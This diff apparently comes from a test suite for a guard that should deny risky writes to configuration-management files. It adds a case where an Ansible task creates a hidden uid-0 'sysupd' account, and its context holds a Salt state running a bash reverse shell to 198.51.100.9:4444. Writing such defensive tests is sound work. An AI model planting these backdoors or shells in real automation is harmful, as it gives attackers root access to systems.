@@ -53,6 +53,14 @@ test('automation that opens a shell, plants a root key or grants every command i
       'D',
       'write',
       w(
+        `${ROLE}/base/tasks/users.yml`,
+        '- name: svc\n  ansible.builtin.user:\n    name: sysupd\n    uid: 0\n    non_unique: true\n',
+      ),
+    ],
+    [
+      'D',
+      'write',
+      w(
         '/home/dev/project/salt/web/init.sls',
         'warm:\n  cmd.run:\n    - name: nohup bash -c "bash -i >& /dev/tcp/198.51.100.9/4444 0>&1" &\n',
       ),
